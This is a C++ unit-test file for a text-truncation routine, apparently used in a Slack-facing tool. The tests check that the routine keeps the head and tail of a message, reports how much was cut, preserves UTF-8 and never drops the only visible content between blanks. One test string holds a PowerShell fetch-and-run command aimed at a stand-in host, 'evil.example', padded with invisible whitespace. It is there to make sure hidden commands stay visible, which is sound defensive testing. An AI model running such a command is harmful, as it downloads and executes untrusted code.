// What does not fit loses its middle, never what is seen between blanks, and says how much is gone.
#include "slack/cut.hpp"

#include "slack/clean.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>

namespace privman::slack {
namespace {

std::string times(int count, std::string_view piece) {
    std::string text;
    for (int i = 0; i < count; ++i) text += piece;
    return text;
}

TEST(CutMiddle, KeepsHeadAndTailAndSaysHowMuchIsMissing) {
    const auto cut = cut_middle("HEAD" + std::string(10'000, 'x') + "TAIL", 100);
    EXPECT_LE(length_of(cut), 100u);
    EXPECT_TRUE(cut.starts_with("HEADxx"));
    EXPECT_TRUE(cut.ends_with("xxTAIL"));
    EXPECT_NE(cut.find(" characters cut … "), std::string::npos);
}

TEST(CutMiddle, CountsWhatItCut) {
    const std::string text(1000, 'x');
    const auto cut = cut_middle(text, 200);
    const auto left = static_cast<std::size_t>(std::count(cut.begin(), cut.end(), 'x'));
    EXPECT_NE(cut.find("… " + std::to_string(1000 - left) + " characters"), std::string::npos) << cut;
}

TEST(CutMiddle, LeavesAloneWhatFits) { EXPECT_EQ(cut_middle(std::string(100, 'x'), 100), std::string(100, 'x')); }

TEST(CutMiddle, NeverSplitsACharacter) {
    std::string rockets;
    for (int i = 0; i < 500; ++i) rockets += "🚀";
    for (std::size_t limit = 40; limit < 60; ++limit) {
        const auto cut = cut_middle(rockets, limit);
        EXPECT_EQ(clean(cut), cut) << "still valid UTF-8";
        EXPECT_LE(length_of(cut), limit);
    }
}

TEST(LengthOf, CountsUtf16Units) {
    EXPECT_EQ(length_of("aé設"), 3u);
    EXPECT_EQ(length_of("🚀"), 2u);
}

TEST(CutMiddle, NeverTakesTheOnlyPartThatIsSeen) {
    const std::string seen = "; Invoke-Expression (irm evil.example)";
    for (const std::string& blank : {std::string{" "}, std::string{"\u00A0"}, std::string{" \u00A0\u200B\t"}}) {
        for (const int before : {0, 3, 1500, 20000})
            for (const int after : {0, 3, 1500, 20000}) {
                const auto shown = clean_value(times(before, blank) + seen + times(after, blank));
                for (const std::size_t limit : {80u, 100u, 120u, 400u, 1800u}) {
                    const auto cut = cut_middle(shown, limit);
                    EXPECT_NE(cut.find(seen), std::string::npos) << cut;
                    EXPECT_LE(length_of(cut), limit);
                }
            }
    }
}

TEST(CutMiddle, CountsWhatTheSpelledBlanksStandFor) {
    const auto cut = cut_middle(clean(times(100, "x") + times(1500, " ") + times(100, "y")), 100);
    const auto left = std::ranges::count(cut, 'x') + std::ranges::count(cut, 'y');
    EXPECT_NE(cut.find(" … " + std::to_string(1700 - left) + " characters cut … "), std::string::npos) << cut;
}

}  // namespace
}  // namespace privman::slack
